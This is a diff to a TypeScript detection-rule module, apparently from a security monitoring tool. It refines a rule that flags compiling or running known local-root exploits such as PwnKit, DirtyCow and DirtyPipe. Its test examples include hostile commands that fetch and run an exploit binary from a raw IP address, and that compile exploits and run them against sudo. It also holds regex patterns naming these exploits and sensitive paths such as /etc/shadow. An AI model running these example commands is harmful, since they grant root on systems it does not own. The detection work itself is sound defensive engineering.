@@ -67,6 +67,9 @@ function sensitiveMount(m: string): boolean {
   return /^\/etc\/(sudoers|shadow|passwd|pam\.d|cron|systemd)|^\/root\//.test(src) || classifyPath(src)?.role === 'secret' || /^~(\/\.(ssh|gnupg))?\/?$/.test(dir);
 }
 
+/** C source named for a CVE or a known local-root exploit (`dirtycow.c`); a bare `exploit_test.c` is not one. */
+const exploitSource = (w: string) => /^(pwnkit|cve-?\d{4}-\d{3,}|dirty_?(pipe|cow|c0w|cred|sock)|cowroot|nimbuspwn)[\w.-]*\.c$/i.test(baseName(w));
+
 /** A script named for a CVE or a known local-root exploit. */
 function exploitScript(w: string | undefined): boolean {
   return !!w && /^(cve-?\d{4}-\d{3,}|pwnkit|dirty_?(pipe|cow|cred|sock)|nimbuspwn|polkit[-_]?exploit)[\w-]*\.(py|pl|rb|sh|js)$/i.test(baseName(w));
@@ -283,9 +286,9 @@ export const RULES: readonly Rule[] = [
       const exploit = (w: string) => /^(pwnkit|cve-?\d{4}-\d{3,}[\w.-]*|dirty_?(pipe|cow|c0w|cred|sock)[\w.-]*|cowroot|dirtypipez?|nimbuspwn|overlayfs[\w-]*exploit|exploit[\w.-]*|polkit[-_]?exploit)$/i.test(baseName(w));
       // the exploit run directly, by an interpreter (`python3 CVE-2021-3156.py`), or compiled from or under its name
       const script = (c: SimpleCommand) => (isInterpreter(c.name) || isShell(c.name) ? operands(c)[0] : undefined);
-      return (i.view?.commands ?? []).filter((c) => exploit(c.argv[0]!) && c.argv[0]!.includes('/') || exploitScript(script(c)) || (c.name === 'gcc' || c.name === 'cc' || c.name === 'clang') && c.argv.some((w, k) => (c.argv[k - 1] === '-o' || w.endsWith('.c')) && exploit(w))).map((c) => c.argv.join(' '));
+      return (i.view?.commands ?? []).filter((c) => exploit(c.argv[0]!) && c.argv[0]!.includes('/') || exploitScript(script(c)) || (c.name === 'gcc' || c.name === 'cc' || c.name === 'clang') && c.argv.some((w, k) => (c.argv[k - 1] === '-o' && exploit(w)) || exploitSource(w))).map((c) => c.argv.join(' '));
     },
-    examples: { fire: ['cd /tmp && wget http://45.33.12.7/PwnKit && chmod +x PwnKit && ./PwnKit', 'gcc -o /tmp/cve-2021-4034 /tmp/exploit.c && /tmp/cve-2021-4034', 'gcc -o /tmp/dc dirtycow.c -pthread && /tmp/dc', './dirtypipe /usr/bin/sudo', 'python3 CVE-2021-3156.py', 'bash /tmp/cve-2023-0386.sh'], quiet: ['gcc -o build/app src/main.c', './configure && make', 'grep -r CVE-2021-4034 docs/', 'python3 scripts/check_cves.py'] },
+    examples: { fire: ['cd /tmp && wget http://45.33.12.7/PwnKit && chmod +x PwnKit && ./PwnKit', 'gcc -o /tmp/cve-2021-4034 /tmp/exploit.c && /tmp/cve-2021-4034', 'gcc -o /tmp/dc dirtycow.c -pthread && /tmp/dc', './dirtypipe /usr/bin/sudo', 'python3 CVE-2021-3156.py', 'bash /tmp/cve-2023-0386.sh'], quiet: ['gcc exploit_test.c -o /dev/null', 'gcc -o build/app src/main.c', './configure && make', 'grep -r CVE-2021-4034 docs/', 'python3 scripts/check_cves.py'] },
   },
   {
     id: 'PX-PRIV-021', name: 'osascript-admin-prompt', score: 70, tactic: 'privilege_escalation', technique: 'T1548.004',
